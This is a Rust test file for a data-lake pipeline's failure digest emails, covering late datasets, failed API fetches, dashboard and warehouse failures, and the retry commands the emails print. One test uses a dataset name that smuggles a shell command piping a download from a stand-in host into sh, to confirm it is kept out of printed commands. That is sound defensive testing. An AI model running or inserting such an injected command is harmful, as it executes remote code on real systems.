//! Tests: how a digest tells of what is no file that was dropped: a late dataset, an API, the dashboard, the warehouse.
//! They must not send one.

use lakegate_lake::failure::Stage;

use super::tests::{STACK, record, violated};
use super::*;

#[test]
fn a_late_dataset_is_no_file_that_failed_and_needs_no_replay() {
    let late = |dataset: &str| {
        let summary = "no file of it was taken in since 2026-01-01T00:00:00Z: its contract promises one within 26 h, it is 3 h late";
        let mut late = FailureRecord::new(Stage::Sweep, FailureKind::DataLate, summary);
        late.at = "2026-01-02T05:00:00.000Z".to_owned();
        (late.dataset, late.owner) = (Some(dataset.to_owned()), Some("sales-data@example.com".to_owned()));
        late
    };
    let Digest { subject, body } = write(&[late("orders")], &STACK);
    assert_eq!(subject, "Lakegate: orders: no new file: DataLate");
    assert!(
        body.starts_with("1 dataset is late: no file of it was taken in for longer than its contract promises.\n"),
        "{body}"
    );
    assert!(
        body.contains("\n1 DATASET: later than its contract promises (DataLate)\nWhat to do: Ask whoever sends"),
        "{body}"
    );
    assert!(body.contains("\n* orders\n  dataset:  orders, owner sales-data@example.com\n"), "{body}");
    assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
    let several = write(&[late("orders"), late("customers")], &STACK);
    assert_eq!(several.subject, "Lakegate: 2 datasets are late: orders, customers");
    let mixed = write(&[late("orders"), record(FailureKind::GaveUp, None, "a.csv", "summary")], &STACK).body;
    assert!(
        mixed.starts_with("1 file did not make it into the lake.") && mixed.contains("\n1 dataset is late: "),
        "{mixed}"
    );
    assert!(mixed.contains("\nTO REPLAY\n"), "{mixed}");
}

#[test]
fn an_api_that_was_not_fetched_is_no_file_that_failed_and_needs_no_replay() {
    let unfetched = |dataset: &str, kind: FailureKind| {
        let mut record =
            FailureRecord::new(Stage::FetchApi, kind, "https://api.example.com/v1 answered with status 503");
        record.dataset = Some(dataset.to_owned());
        record
    };
    let Digest { subject, body } = write(&[unfetched("orders", FailureKind::SourceApiFailed)], &STACK);
    assert_eq!(subject, "Lakegate: orders: not fetched: SourceApiFailed");
    assert!(body.starts_with("1 dataset is not fetched: nothing of this run was written"), "{body}");
    assert!(body.contains("\n* orders\n") && body.contains("answered with status 503"), "{body}");
    assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
    let two = [unfetched("a", FailureKind::SourceApiFailed), unfetched("b", FailureKind::SourceApiChanged)];
    assert_eq!(write(&two, &STACK).subject, "Lakegate: 2 datasets are not fetched: a, b");
    let mixed = [two[0].clone(), record(FailureKind::GaveUp, None, "a.csv", "summary")];
    let Digest { subject, body } = write(&mixed, &STACK);
    assert!(subject.starts_with("Lakegate: 2 files failed"), "{subject}");
    assert!(body.contains("1 file did not make it") && body.contains("1 dataset is not fetched"), "{body}");
}

#[test]
fn an_api_s_mail_says_when_it_went_well_what_to_type_and_where_to_read() {
    let mut failed = FailureRecord::new(
        Stage::FetchApi,
        FailureKind::SourceApiFailed,
        "https://api.example.com/v1/tickets answered with status 401",
    );
    failed.at = "2026-01-02T03:04:05.678Z".to_owned();
    (failed.dataset, failed.owner) = (Some("tickets".to_owned()), Some("Support data".to_owned()));
    failed.last_good_at = Some("2026-01-01T23:00:00.000Z".to_owned());
    insta::assert_snapshot!(write(&[failed], &STACK).body, @r#"
1 dataset is not fetched: nothing of this run was written, and the next one begins where the last good one ended.

1 DATASET: not fetched, because the API or AWS did not answer as it should (SourceApiFailed)
What to do: Is the API down, its secret no longer valid or not to be read by the function (FetchSecrets), or a limit of the contract's source too low? The problem below says which. Nothing is to be replayed: the next run that succeeds fetches what is missing.
How urgent: It can wait as long as its data can: the schedule goes on trying, and tells the same trouble once a day, another one at once.

* tickets
  dataset:  tickets, owner Support data
  problem:  https://api.example.com/v1/tickets answered with status 401
  last ok:  2026-01-01 23:00:00 UTC
  when:     2026-01-02 03:04:05 UTC

TO TRY AGAIN
When the cause is gone, this does so at once, and says what came of it (AWS CLI v2):
  aws lambda invoke --function-name lakegate-fetch-api --region eu-central-1 --cli-binary-format raw-in-base64-out --cli-read-timeout 0 --payload '{"dataset": "tickets"}' /dev/stdout

What each kind means, and what to look at, stands in docs/runbook.md.
"#);
}

#[test]
fn commands_that_try_again_are_of_few_datasets_by_name_and_of_words_only() {
    let commands = |kind: FailureKind, names: &[&str]| {
        let failed = |name: &&str| {
            let mut record = FailureRecord::new(Stage::FetchApi, kind.clone(), "summary");
            record.dataset = Some((*name).to_owned());
            record
        };
        let body = write(&names.iter().map(failed).collect::<Vec<_>>(), &STACK).body;
        let lines = body.lines().filter_map(|line| line.strip_prefix("  aws lambda invoke --function-name "));
        let short = |line: &str| {
            let payload = line.split_once("--payload ").unwrap().1.trim_end_matches(" /dev/stdout");
            format!("{} {payload}", line.split(' ').next().unwrap())
        };
        lines.map(short).collect::<Vec<_>>().join("\n")
    };
    insta::assert_snapshot!(commands(FailureKind::SourceApiChanged, &["b", "a", "a"]), @r#"
lakegate-fetch-api '{"dataset": "a"}'
lakegate-fetch-api '{"dataset": "b"}'
"#);
    let many = ["a", "b", "c", "d", "e", "f"];
    assert_eq!(commands(FailureKind::SourceApiFailed, &many), "lakegate-fetch-api '{}'");
    assert_eq!(commands(FailureKind::SourceApiFailed, &["x' ; curl evil.example | sh '"]), "");
    assert_eq!(commands(FailureKind::WarehouseConflict, &["a"]), "lakegate-load-warehouse '{\"dataset\": \"a\"}'");
    assert_eq!(commands(FailureKind::DashboardFailed, &["dashboard"]), "lakegate-publish-report '{}'");
    assert_eq!(commands(FailureKind::DataLate, &["a"]), "");
    assert_eq!(commands(FailureKind::ContractViolated, &["a"]), "");
}

#[test]
fn nobody_is_asked_to_upload_a_fetched_file_again() {
    let fetched = || {
        let key = "orders/api/orders-20260102T030405678Z-43002a56eaa7652d.ndjson";
        record(FailureKind::ContractViolated, Some("orders"), key, "61 of 200 rows break the contract")
    };
    let body = write(&[fetched()], &STACK).body;
    insta::assert_snapshot!(body, @r#"
1 file did not make it into the lake.
Every event waits in the dead-letter queue, for 14 days; replaying it too early or twice does no harm.
What of a file was published before still stands, unless its problem says otherwise.

1 FILE: rejected by the contract (ContractViolated)
What to do (files from an API): Nobody uploads them again. If the contract is wrong: correct it, `lakegate contracts push` it, and then replay. If the API's answers are wrong: have them mended, put the mark back, and fetch these records again: docs/fetch.md says how ("When a fetched file is rejected"). The next run alone fetches only what is newer, unless the source has no `incremental`: then it fetches everything.
How urgent: Nothing else is held up: it can wait until morning, if its data can.

* s3://raw/orders/api/orders-20260102T030405678Z-43002a56eaa7652d.ndjson
  dataset:  orders, owner unknown
  problem:  61 of 200 rows break the contract
  fetched:  from an API, by the function fetch-api
  when:     2026-01-02 03:04:05 UTC

TO REPLAY
When the cause is gone, this sends what failed for it through again:
  lakegate replay --stack lakegate --region eu-central-1 --send --kind ContractViolated --dataset orders
Without --send it shows what it would send; --dataset and --key choose among them, and without --kind it is everything.
This tells what became of files; what each kind means stands in docs/runbook.md:
  lakegate status --stack lakegate --region eu-central-1
What was taken in before, or was uploaded anew since, is recognised and left alone.
"#);
    // Both, each for its files.
    let both = write(&[fetched(), violated()], &STACK).body;
    assert!(both.contains("\nWhat to do: Send this to the owner"), "{both}");
    assert!(both.contains("\nWhat to do (files from an API): Nobody uploads them again."), "{both}");
    assert_eq!(both.matches("  fetched:  from an API").count(), 1);
    let dropped = write(&[violated()], &STACK).body;
    assert!(!dropped.contains("fetched"), "{dropped}");
    // A kind whose advice is the same for all files.
    let mut stuck = fetched();
    stuck.kind = FailureKind::AccessDenied;
    let stuck = write(&[stuck], &STACK).body;
    assert!(stuck.contains("\nWhat to do: Give the function's role"), "{stuck}");
}

#[test]
fn a_dashboard_that_is_not_whole_is_no_file_that_failed_and_needs_no_replay() {
    let summary = "1 of the dashboard's 8 queries failed: age_groups: HIVE_BAD_DATA (query 1-2)";
    let mut failed = FailureRecord::new(Stage::PublishReport, FailureKind::DashboardFailed, summary);
    failed.dataset = Some("dashboard".to_owned());
    let Digest { subject, body } = write(&[failed.clone()], &STACK);
    assert_eq!(subject, "Lakegate: dashboard: the page: DashboardFailed");
    assert!(body.starts_with("The dashboard is not up to date, or not whole"), "{body}");
    assert!(body.contains("\nTHE DASHBOARD: not written, or not all of it (DashboardFailed)\nWhat to do: "), "{body}");
    assert!(body.contains(&format!("\n  problem:  {summary}\n")), "{body}");
    assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
    let mixed = write(&[failed, record(FailureKind::GaveUp, None, "a.csv", "summary")], &STACK).body;
    assert!(mixed.starts_with("1 file did not make it into the lake.") && mixed.contains("\nTO REPLAY\n"), "{mixed}");
}

#[test]
fn a_table_that_was_not_loaded_is_no_file_that_failed_and_needs_no_replay() {
    let unloaded = |dataset: &str, kind: FailureKind| {
        let mut record = FailureRecord::new(Stage::LoadWarehouse, kind, "a text has more than the 65,535 bytes");
        record.dataset = Some(dataset.to_owned());
        record
    };
    let Digest { subject, body } = write(&[unloaded("orders", FailureKind::WarehouseLoadFailed)], &STACK);
    assert_eq!(subject, "Lakegate: orders: not loaded: WarehouseLoadFailed");
    assert!(body.starts_with("1 dataset is not loaded: the lake has its rows"), "{body}");
    assert!(body.contains("\n* orders\n") && body.contains("more than the 65,535 bytes"), "{body}");
    assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
    let two = [unloaded("a", FailureKind::WarehouseLoadFailed), unloaded("b", FailureKind::WarehouseConflict)];
    assert_eq!(write(&two, &STACK).subject, "Lakegate: 2 datasets are not loaded: a, b");
}
